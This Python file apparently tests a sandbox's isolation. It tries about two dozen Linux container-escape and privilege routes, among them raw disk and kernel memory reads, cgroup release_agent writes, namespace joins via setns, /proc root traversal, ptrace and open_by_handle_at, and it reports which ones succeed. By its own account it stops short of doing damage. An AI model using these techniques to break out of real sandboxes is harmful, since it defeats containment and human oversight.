"""Attacks on the machine, each a function that returns whether it worked.

Run as a program, it reads the facts, tries each attack in a process of its own and prints the names of those
that worked. Where an attack would do harm it stops just before: what is opened is not written, what is loaded
is no module, and a reboot is asked for with wrong words, which the kernel looks at after the rights.
"""

import ctypes
import errno
import json
import os
import platform
import stat
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

_libc = ctypes.CDLL(None, use_errno=True)
_NEW_MOUNTS, _NEW_USERS = 0x0002_0000, 0x1000_0000
_REMOUNT_BOUND = 0x1020
_PTRACE_ATTACH, _PTRACE_DETACH = 16, 17
# By machine: reboot, init_module, open_by_handle_at, keyctl.
_CALLS = {"x86_64": (169, 175, 304, 250), "aarch64": (142, 105, 265, 219)}
_REBOOT, _INIT_MODULE, _OPEN_BY_HANDLE, _KEYCTL = _CALLS.get(platform.machine(), (-1, -1, -1, -1))
_KEYCTL_SEARCH, _USER_KEYRING = 10, -4
Facts = dict[str, Any]
"""What the attacker is given: more than it could know."""


def _call(number: int, *arguments: Any) -> int:
    """The error number of a system call; 0 when it worked."""
    return ctypes.get_errno() if _libc.syscall(number, *arguments) < 0 else 0


def _reads(path: str | Path, facts: Facts) -> bool:
    return facts["secret"] in Path(path).read_text(errors="replace")


def _opens(path: str | Path, flags: int) -> bool:
    os.close(os.open(path, flags))
    return True


def _processes() -> list[Path]:
    return list(Path("/proc").glob("[0-9]*"))


def _any(works: Callable[[Any], bool], things: Any) -> bool:
    for thing in things:
        try:
            if works(thing):
                return True
        except OSError:
            continue
    return False


def read_a_disk(_: Facts) -> bool:
    """Any that /dev has."""
    disks = [device for device in Path("/dev").iterdir() if stat.S_ISBLK(device.lstat().st_mode)]
    return _any(lambda disk: _opens(disk, os.O_RDONLY), disks)


def make_a_disk(facts: Facts) -> bool:
    """A node of the machine's disk, by its number."""
    node = Path(facts["scratch"], "disk")
    os.mknod(node, stat.S_IFBLK | 0o600, facts["disk"])
    node.unlink()
    return True


def read_memory(_: Facts) -> bool:
    """The kernel's, or the machine's."""
    return _any(lambda file: _opens(file, os.O_RDONLY), ("/dev/mem", "/dev/kmem", "/dev/kmsg", "/proc/kcore"))


def mount(facts: Facts) -> bool:
    """The simplest of all file systems."""
    return bool(_libc.mount(b"none", facts["scratch"].encode(), b"tmpfs", 0, None) == 0)


def mount_control_groups(facts: Facts) -> bool:
    """A `release_agent`, which the kernel runs as the machine's root, is in there."""
    return any(
        _libc.mount(b"none", facts["scratch"].encode(), kind, 0, None) == 0
        for kind in (b"cgroup2", b"cgroup")
    )


def write_a_release_agent(_: Facts) -> bool:
    """Where control groups are mounted already."""
    return _any(lambda file: _opens(file, os.O_WRONLY), Path("/sys/fs/cgroup").glob("*/release_agent"))


def make_what_is_read_only_writable(_: Facts) -> bool:
    """By mounting it again."""
    return any(
        _libc.mount(b"none", place, None, _REMOUNT_BOUND, None) == 0 for place in (b"/proc/sys", b"/proc")
    )


def make_a_user_namespace(_: Facts) -> bool:
    """In which one has all rights, to mount for one."""
    return bool(_libc.unshare(_NEW_USERS) == 0)


def make_a_mount_namespace(_: Facts) -> bool:
    """For the same."""
    return bool(_libc.unshare(_NEW_MOUNTS) == 0)


def change_the_root(facts: Facts) -> bool:
    """The first step out of a root that was changed."""
    os.chroot(facts["scratch"])
    return True


def write_a_setting_of_the_kernel(_: Facts) -> bool:
    """The value that it has."""
    setting = Path("/proc/sys/kernel/panic")
    setting.write_text(setting.read_text())
    return True


def write_below_sys(_: Facts) -> bool:
    """A file that is nearly everywhere."""
    return _any(lambda file: _opens(file, os.O_WRONLY), Path("/sys").glob("devices/system/cpu/*/uevent"))


def press_sysrq(_: Facts) -> bool:
    """Hold the key over it."""
    return _opens("/proc/sysrq-trigger", os.O_WRONLY)


def load_a_module(_: Facts) -> bool:
    """What is no module is refused after the rights were looked at."""
    return _call(_INIT_MODULE, b"no module", 9, b"") in (0, errno.ENOEXEC)


def reboot(_: Facts) -> bool:
    """So are words that are not the right ones."""
    return _call(_REBOOT, 0, 0, 0, 0) == errno.EINVAL


def see_a_process(facts: Facts) -> bool:
    """By its command line."""
    return _any(lambda process: facts["marker"].encode() in (process / "cmdline").read_bytes(), _processes())


def trace_a_process(facts: Facts) -> bool:
    """Which could then be made to do anything."""
    if _libc.ptrace(_PTRACE_ATTACH, facts["pid"], None, None) != 0:
        return False
    os.waitpid(facts["pid"], 0)
    _libc.ptrace(_PTRACE_DETACH, facts["pid"], None, None)
    return facts["marker"].encode() in Path(f"/proc/{facts['pid']}/cmdline").read_bytes()


def signal_a_process(facts: Facts) -> bool:
    """With a signal that does nothing."""
    os.kill(facts["pid"], 0)
    return facts["marker"].encode() in Path(f"/proc/{facts['pid']}/cmdline").read_bytes()


def read_a_home_folder(facts: Facts) -> bool:
    """A file of mode 0600, as root's own."""
    return _reads(facts["home"], facts)


def read_a_project(facts: Facts) -> bool:
    """The state folder of another rehearsal, for one."""
    return _reads(facts["project"], facts)


def escape_through_a_process(facts: Facts) -> bool:
    """By the root, the folder or the files that it has."""
    ways = [way for each in _processes() for way in (each / "root", each / "cwd/../../../../../..")]
    return _any(lambda way: _reads(f"{way}{facts['home']}", facts), ways)


def join_a_namespace(facts: Facts) -> bool:
    """The machine's own mounts."""

    def joins(process: Path) -> bool:
        return _libc.setns(os.open(process / "ns/mnt", os.O_RDONLY), 0) == 0 and _reads(facts["home"], facts)

    return _any(joins, _processes())


def open_by_handle(facts: Facts) -> bool:
    """A file by its number on the disk, of which /usr and others are seen; paths do not matter."""
    handle = bytes.fromhex(facts["handle"])

    def opens(place: str) -> bool:
        descriptor = _libc.syscall(_OPEN_BY_HANDLE, os.open(place, os.O_RDONLY), handle, os.O_RDONLY)
        return descriptor >= 0 and facts["secret"].encode() in os.read(descriptor, 1000)

    return _any(opens, (sys.prefix, sys.base_prefix, "/usr", "/"))


def find_a_key(facts: Facts) -> bool:
    """In the kernel's keyring of this user."""
    return _call(_KEYCTL, _KEYCTL_SEARCH, _USER_KEYRING, b"user", facts["marker"].encode(), 0) == 0


ATTACKS: list[Callable[[Facts], bool]] = [
    *(read_a_disk, make_a_disk, read_memory, mount, mount_control_groups, write_a_release_agent),
    *(make_what_is_read_only_writable, make_a_user_namespace, make_a_mount_namespace, change_the_root),
    *(write_a_setting_of_the_kernel, write_below_sys, press_sysrq, load_a_module, reboot, see_a_process),
    *(trace_a_process, signal_a_process, read_a_home_folder, read_a_project, escape_through_a_process),
    *(join_a_namespace, open_by_handle, find_a_key),
]


def works(attack: Callable[[Facts], bool], facts: Facts) -> bool:
    """In a process of its own, since some leave it in another place."""
    child = os.fork()
    if child == 0:
        try:
            os._exit(0 if attack(facts) else 1)
        finally:
            os._exit(1)
    return os.waitpid(child, 0)[1] == 0


if __name__ == "__main__":
    given = json.load(sys.stdin)
    print(json.dumps([each.__name__ for each in ATTACKS if works(each, given)]))
